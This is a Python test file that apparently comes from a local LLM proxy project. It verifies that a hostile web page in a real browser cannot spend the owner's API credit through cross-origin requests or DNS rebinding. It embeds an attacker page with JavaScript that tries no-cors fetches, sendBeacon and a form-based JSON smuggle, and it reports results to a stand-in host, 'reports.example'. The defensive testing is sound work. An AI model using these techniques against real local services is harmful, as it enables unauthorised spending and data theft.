"""A real browser with somebody else's page open cannot spend the owner's money, whatever the page tries."""

import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from urllib.parse import urlsplit

import orjson
import pytest
import trio
from attrs import define, field

from tests.shell.browser import needs_chromium, opened_page
from tests.shell.loopback import on_loopback, whole
from tests.shell.proxy_world import World, chat, proxy
from tokenwise_shell.config.settings import ProxySettings

pytestmark = [needs_chromium, pytest.mark.slow]  # a browser takes seconds to start

EVIL = "evil.example"

# Where the page reports. Under a name of its own it has a connection of its own, which nobody hands on.
REPORTS = "reports.example"

# What a page can try without asking first, then with asking; last it tells its own server what it could read.
PAGE = """<!doctype html><title>a page</title><iframe name="frame"></iframe>
<form id="form" method="post" enctype="text/plain" target="frame" action="TARGET/v1/chat/completions"></form>
<script>
const url = "TARGET/v1/chat/completions", body = BODY;
const input = document.createElement("input");
input.name = body.slice(0, -1) + ', "x": "', input.value = '"}';
document.getElementById("form").append(input);
const attempt = async (options) => {
  try { const got = await fetch(url, {method: "POST", ...options}); return got.status; } catch (error) { return -1; }
};
(async () => {
  const read = [];
  read.push(await attempt({mode: "no-cors", body}));
  read.push(await attempt({mode: "no-cors", body: new Blob([body])}));
  read.push(await attempt({body, headers: {"content-type": "application/json"}}));
  navigator.sendBeacon(url, body);
  const framed = new Promise((done) => { document.querySelector("iframe").onload = done; });
  document.getElementById("form").submit();
  await framed;
  await fetch("http://REPORTS/report", {method: "POST", mode: "no-cors", body: JSON.stringify(read)});
})();
</script>"""


@define(eq=False)
class Attacker:
    """Serves the page, and takes its report; all else it hands on to `relay`, as a name that leads elsewhere does."""

    target: str = ""
    port: int = 0
    relay: tuple[str, int] | None = None
    reported: trio.Event = field(factory=trio.Event)
    read: list[int] = field(factory=list)

    async def talk(self, stream: trio.abc.Stream) -> None:
        heard = bytearray()
        while b"\r\n\r\n" not in heard:
            if not (data := await stream.receive_some()):
                return
            heard += data
        path = heard.split(b" ", 2)[1]
        if path == b"/":
            names = {
                "TARGET": self.target,
                "REPORTS": f"{REPORTS}:{self.port}",
                "BODY": repr(orjson.dumps(chat()).decode()),
            }
            page = re.sub("|".join(names), lambda found: names[found[0]], PAGE)
            html = b"content-type: text/html\r\nconnection: close\r\n"
            await stream.send_all(whole(page.encode(), headers=html))
        elif path == b"/report":
            while not (found := re.search(rb"\r\n\r\n(\[.*\])", heard)):
                heard += await stream.receive_some()
            self.read = orjson.loads(found[1])
            await stream.send_all(whole(b"{}"))
            self.reported.set()
        elif self.relay is not None:
            await self._hand_on(bytes(heard), stream)

    async def _hand_on(self, heard: bytes, stream: trio.abc.Stream) -> None:
        async with await trio.open_tcp_stream(*self.relay) as proxy_side, trio.open_nursery() as nursery:
            await proxy_side.send_all(heard)
            nursery.start_soon(_pour, stream, proxy_side)
            await _pour(proxy_side, stream)
            nursery.cancel_scope.cancel()


async def _pour(source: trio.abc.Stream, sink: trio.abc.Stream) -> None:
    async for data in source:
        await sink.send_all(data)


@asynccontextmanager
async def visited(folder: Path, world: World, *, rebound: bool = False) -> AsyncIterator[Attacker]:
    """The attacker after the browser has been to its page. `rebound` where its name has come to lead to the proxy."""
    attacker, place = Attacker(world.url), urlsplit(world.url)
    async with on_loopback(attacker.talk) as house:
        attacker.port = house.port
        if rebound:
            attacker.target, attacker.relay = "", (place.hostname, place.port)
        async with opened_page(f"http://{EVIL}:{house.port}/", folder, "MAP *.example 127.0.0.1"):
            with trio.fail_after(60):
                await attacker.reported.wait()
            yield attacker


def spent(world: World) -> bool:
    return any(line["run"] for line in world.lines)


async def refusals(world: World) -> set[str]:
    figures = (await world.ask("GET", "/metrics")).body.decode()
    return set(re.findall(r'tokenwise_refusals_total\{reason="(\w+)"\}', figures))


async def test_a_page_of_another_origin_spends_nothing_and_reads_nothing(tmp_path):
    async with proxy(tmp_path) as world, visited(tmp_path, world) as attacker:
        assert attacker.read == [0, 0, -1]  # 0 is a status that a page may not read, -1 a preflight that was refused
        assert await refusals(world) == {"origin_not_allowed"}
        assert not spent(world)


async def test_a_name_that_has_come_to_lead_here_spends_nothing(tmp_path):
    async with proxy(tmp_path) as world, visited(tmp_path, world, rebound=True) as attacker:
        assert attacker.read == [403, 403, 403]
        assert await refusals(world) == {"host_not_allowed"}
        assert not spent(world)


async def test_the_same_name_spends_where_the_owner_says_it_is_his(tmp_path):
    """So that it is the proxy which refuses the others, and not the browser which never asked."""
    settings = ProxySettings(hosts=(EVIL,))
    async with proxy(tmp_path, proxy=settings) as world, visited(tmp_path, world, rebound=True) as attacker:
        assert attacker.read == [415, 415, 200]
        assert spent(world)
